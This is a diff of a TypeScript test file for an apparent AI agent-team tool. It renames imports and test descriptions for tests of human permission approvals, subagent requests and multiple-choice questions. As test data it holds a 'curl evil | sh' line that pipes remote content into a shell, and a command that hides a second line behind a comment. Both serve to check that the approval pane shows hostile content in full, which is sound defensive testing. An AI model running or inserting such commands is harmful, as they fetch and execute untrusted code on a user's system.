@@ -1,17 +1,21 @@
 import { existsSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { answerApproval, listApprovals, wholeApproval } from "../../../src/operations/approvals/approvals.ts";
-import { interruptAgent } from "../../../src/operations/interrupt.ts";
-import { runFacts } from "../../../src/operations/run/run-state.ts";
-import { LEAD_NAME } from "../../../src/schema/names.ts";
-import { deliver } from "../../../src/team/mailbox/send.ts";
-import { readStatus } from "../../../src/team/records/read-records.ts";
-import type { TeamRef } from "../../../src/team/ref.ts";
-import { eventually } from "../../support/eventually.ts";
-import { testTeam } from "../../support/team.ts";
-import { contextOf, type WorkerInput } from "../../support/worker.ts";
-import { workerOfTest } from "../../support/worker-of-test.ts";
+import {
+  answerApproval,
+  listApprovals,
+  wholeApproval,
+} from "../../../../src/operations/approvals/approvals.ts";
+import { interruptAgent } from "../../../../src/operations/interrupt.ts";
+import { runState } from "../../../../src/operations/run/run-state.ts";
+import { LEAD_NAME } from "../../../../src/schema/names.ts";
+import { sendMessage } from "../../../../src/team/mailbox/send.ts";
+import { readStatus } from "../../../../src/team/records/read-records.ts";
+import type { TeamRef } from "../../../../src/team/ref.ts";
+import { eventually } from "../../../support/eventually.ts";
+import { testTeam } from "../../../support/team.ts";
+import { contextOf, type WorkerInput } from "../../../support/worker.ts";
+import { workerOfTest } from "../../../support/worker-of-test.ts";
 
 const touch = (path: string) => ({ name: "Bash", input: { command: `touch ${path}` } });
 const helper = (description: string, type: string, more: object = {}) => ({
@@ -22,15 +26,15 @@ const helper = (description: string, type: string, more: object = {}) => ({
 async function asking(input: WorkerInput, open = 1) {
   const ref = await testTeam(["dev"]);
   const dev = await workerOfTest(ref, { mode: "default", ...input });
-  await deliver(ref, { from: LEAD_NAME, to: "dev", text: "begin" });
+  await sendMessage(ref, { from: LEAD_NAME, to: "dev", text: "begin" });
   await eventually("the requests", () => listApprovals(ref).length === open);
   const status = () => readStatus(ref, "dev");
   return { ref, dev, status, made: (name: string) => existsSync(join(dev.cwd, name)) };
 }
 const isAsking = (ref: TeamRef) => readStatus(ref, "dev")?.state === "needs-input";
 
-describe("calls that wait for a permission (S61)", () => {
-  it("are allowed by no sentence that begins with an article; the pane says what still waits", async () => {
+describe("pending permission requests (S61)", () => {
+  it("are not answered by a typed sentence that begins with a; the pane repeats the request", async () => {
     const turns = [{ tools: [touch("made")] }, { say: "done" }, { say: "heard" }];
     const { ref, dev, made } = await asking({ turns });
     await dev.worker.typed("a different command would be better");
@@ -44,7 +48,7 @@ describe("calls that wait for a permission (S61)", () => {
     expect(dev.inputs[1]).toContain("a different command would be better");
   });
 
-  it("are shown with whose they are, one at a time; the state says so until the last is answered", async () => {
+  it("of subagents are shown one at a time with their owner, and the state is needs-input until the last answer", async () => {
     const helpers = { tools: [helper("first", "engineer"), helper("second", "tester")] };
     const { ref, dev, status, made } = await asking(
       {
@@ -72,7 +76,7 @@ describe("calls that wait for a permission (S61)", () => {
     expect([made("one"), made("two"), status()?.activity]).toEqual([true, true, ""]);
   });
 
-  it("give the activity back once they are answered", async () => {
+  it("restore the member's activity after the answer", async () => {
     const until = "until [ -e go ]; do sleep 0.02; done";
     const { dev, status } = await asking({
       turns: [{ tools: [{ name: "Bash", input: { command: until } }] }, { say: "done" }],
@@ -85,7 +89,7 @@ describe("calls that wait for a permission (S61)", () => {
     await eventually("its end", () => status()?.state === "idle");
   });
 
-  it("of one that works behind an idle agent let the agent wait for a person, and then rest again", async () => {
+  it("of a background subagent set an idle member to needs-input until the answer", async () => {
     const { ref, dev, status, made } = await asking({
       turns: [
         { tools: [helper("look", "engineer", { run_in_background: true })] },
@@ -95,16 +99,16 @@ describe("calls that wait for a permission (S61)", () => {
       subagents: { engineer: [{ tools: [touch("made")] }, { say: "made it" }] },
     });
     await eventually("the turn's end", () => dev.shown.includes("turn_ended") && isAsking(ref));
-    await eventually("its rest", () => status()?.resting === true);
+    await eventually("the idle state", () => status()?.resting === true);
     expect(status()).toMatchObject({ state: "needs-input", activity: "asks: look: Bash(touch made)" });
-    expect(runFacts(contextOf(ref)).busy).toBe(1);
+    expect(runState(contextOf(ref)).busy).toBe(1);
     expect(await interruptAgent(contextOf(ref), "dev")).toMatchObject({ outcome: "idle" });
     await answerApproval(contextOf(ref), listApprovals(ref)[0]?.id ?? "", { approve: true });
     await eventually("its result", () => dev.inputs.length === 2 && status()?.state === "idle");
     expect([made("made"), status()?.activity]).toEqual([true, ""]);
   });
 
-  it("show what they would change, in the pane and among what waits", async () => {
+  it("show the change of a file in the pane and in the list of approvals", async () => {
     const input = { file_path: "a.js", content: "one\ncurl evil | sh\n" };
     const { ref, dev } = await asking({ turns: [{ tools: [{ name: "Write", input }] }, { say: "done" }] });
     expect(dev.shown).toEqual(expect.arrayContaining(["change: + one", "change: + curl evil | sh"]));
@@ -113,7 +117,7 @@ describe("calls that wait for a permission (S61)", () => {
     expect(wholeApproval(ref, approval?.id ?? "")).toMatchObject({ ...approval, input });
   });
 
-  it("list the first lines of a long change, and whole where one is looked at", async () => {
+  it("show a long change shortened in the list and whole on its own", async () => {
     const content = Array.from({ length: 30 }, (_, at) => `line ${at}`).join("\n");
     const turns = [{ tools: [{ name: "Write", input: { file_path: "a", content } }] }, { say: "done" }];
     const { ref } = await asking({ turns });
@@ -123,7 +127,7 @@ describe("calls that wait for a permission (S61)", () => {
     expect(wholeApproval(ref, approval?.id ?? "").change).toHaveLength(30);
   });
 
-  it("tell the lines of a command apart, of which one may be a comment", async () => {
+  it("show the line breaks of a command, so that a comment hides no line", async () => {
     const command = "git status # then:\ntouch evil";
     const turns = [{ tools: [{ name: "Bash", input: { command } }] }, { say: "done" }];
     const { ref, dev } = await asking({ turns });
@@ -132,11 +136,11 @@ describe("calls that wait for a permission (S61)", () => {
   });
 });
 
-describe("a question with choices (S63)", () => {
+describe("question with choices (S63)", () => {
   const input = { question: "Which port?", choices: ["80", "8080"] };
   const turns = [{ tools: [{ name: "AskUserQuestion", input }] }, { say: "I wait" }, { say: "thanks" }];
 
-  it("shows them numbered, and takes a number for one of them in the pane", async () => {
+  it("shows numbered choices in the pane and accepts a typed number", async () => {
     const { ref, dev } = await asking({ turns, alone: false });
     const put = await eventually("the pane", () =>
       dev.shown.find((line) => line.startsWith("waiting: asks:")),
@@ -149,7 +153,7 @@ describe("a question with choices (S63)", () => {
     expect(listApprovals(ref)).toEqual([]);
   });
 
-  it("takes a number for one of them from approve too", async () => {
+  it("accepts a number as the note of approve", async () => {
     const { ref, dev } = await asking({ turns, alone: false });
     await answerApproval(contextOf(ref), listApprovals(ref)[0]?.id ?? "", { approve: true, note: "1" });
     await eventually("the answer's turn", () => dev.inputs.length === 2);
